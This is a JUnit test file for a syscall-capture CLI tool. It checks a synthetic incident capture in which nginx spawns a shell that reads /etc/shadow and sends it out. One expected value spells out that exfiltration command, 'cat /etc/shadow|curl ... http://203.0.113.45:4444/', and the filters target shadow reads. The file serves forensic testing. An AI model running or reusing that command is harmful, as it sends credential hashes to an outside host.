package org.scapscope.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.scapscope.scap.ScapEvent;
import org.scapscope.scap.ScapFile;
import org.scapscope.store.DemoCapture;

/** The demo capture tells its story through the command line: the web server, the shell, the stolen file. */
class DemoCaptureCommandTest {
    @TempDir
    static Path tmp;
    private static Path demo;

    @BeforeAll
    static void writeDemo() throws IOException {
        demo = tmp.resolve("demo").resolve("incident.scap");
        Files.createDirectories(demo.getParent());
        DemoCapture.write(demo);
    }

    private static Cli run(String... args) {
        Cli r = Cli.run(tmp.resolve("cache"), args);
        assertEquals(0, r.exitCode, r.err);
        return r;
    }

    private static long count(String filter) {
        return Long.parseLong(run("count", demo.toString(), filter).out.strip());
    }

    private static List<String> print(String format, String filter) {
        return run("events", demo.toString(), filter, "-p", format).lines();
    }

    @Test
    void holdsSomeHundredsOfEventsOverTwentyOddSecondsInTimeOrder() throws Exception {
        try (ScapFile scap = ScapFile.open(demo)) {
            assertTrue(scap.warnings().isEmpty(), scap.warnings().toString());
            long n = scap.eventCount();
            assertTrue(n >= 300 && n <= 5000, "events: " + n);
            double seconds = (scap.lastTs() - scap.firstTs()) / 1e9;
            assertTrue(seconds >= 10 && seconds <= 30, "seconds: " + seconds);
            ScapEvent e = scap.newEvent();
            long last = 0;
            for (long i = 0; i < n; i++) {
                scap.read(i, e);
                assertTrue(e.ts() >= last, "event " + i + " goes back in time");
                last = e.ts();
            }
        }
        assertTrue(Long.parseLong(run("count", demo.toString()).out.strip()) >= 300);
    }

    @Test
    void replacesAnOlderFileWholeAndLeavesNothingElseBehind() throws IOException {
        Path dir = tmp.resolve("again");
        Files.createDirectories(dir);
        Path file = dir.resolve("incident.scap");
        Files.writeString(file, "not a capture");
        DemoCapture.write(file);
        assertArrayEquals(Files.readAllBytes(demo), Files.readAllBytes(file), "the demo is the same on every run");
        try (Stream<Path> files = Files.list(dir)) {
            assertEquals(List.of(file), files.toList());
        }
    }

    @Test
    void catReadsTheShadowFileAndCronsLegitimateReadIsSetApart() {
        assertTrue(count("proc.name=cat and fd.name=/etc/shadow") > 0);
        assertTrue(count("fd.name=/etc/shadow and not proc.name=cat and container.name=host") > 0);
        List<String> reads = print("%user.name %container.name %evt.buffer",
                "proc.name=cat and fd.name=/etc/shadow and evt.type=read and evt.dir=< and evt.rawres>0");
        assertEquals(1, reads.size(), reads.toString());
        assertTrue(reads.get(0).startsWith("www-data web-1 root:$y$"), reads.get(0));
    }

    @Test
    void theShellRunsInTheContainerAndNginxStartedIt() {
        assertTrue(count("container.name=web-1 and proc.name=sh") > 0);
        assertTrue(count("container.name=host and proc.name=sh") > 0, "cron's shell on the host");
        List<String> shell = print("%proc.pname %container.id %container.image %proc.cmdline",
                "container.name=web-1 and proc.name=sh and evt.type=execve and evt.dir=<");
        assertEquals(List.of("nginx 3f2a9b1c7d4e nginx:1.25 sh -c cat /etc/shadow|curl -s --data-binary @- "
                + "http://203.0.113.45:4444/"), shell);
        assertEquals(List.of("cat sh", "curl sh"),
                print("%proc.name %proc.pname", "proc.name in (cat, curl) and evt.type=execve and evt.dir=<"));
    }

    @Test
    void curlConnectsOutToTheAttackersServer() {
        assertTrue(count("evt.type=connect and proc.name=curl") > 0);
        assertEquals(List.of("203.0.113.45 4444 web-1"),
                print("%fd.sip %fd.sport %container.name", "evt.type=connect and evt.dir=< and proc.name=curl"));
        assertTrue(count("fd.sip=203.0.113.45 and evt.type=write and evt.buffer contains \"root:\"") > 0);
    }

    @Test
    void nginxAcceptsConnectionsAndSoDoesTheHostsSshd() {
        assertTrue(count("evt.type in (accept, accept4) and container.name=web-1") > 0);
        assertTrue(count("evt.type in (accept, accept4) and container.name=host and proc.name=sshd") > 0);
        assertTrue(count("container.name=web-1 and evt.type=recvfrom and evt.buffer contains \"GET /cgi-bin/diag\"") > 0);
        assertTrue(count("container.name=web-1 and evt.type=writev and evt.buffer contains \"HTTP/1.1 200 OK\"") > 0);
        assertTrue(count("container.name=web-1 and evt.type=openat and fd.name startswith /usr/share/nginx/html/") > 0);
    }
}
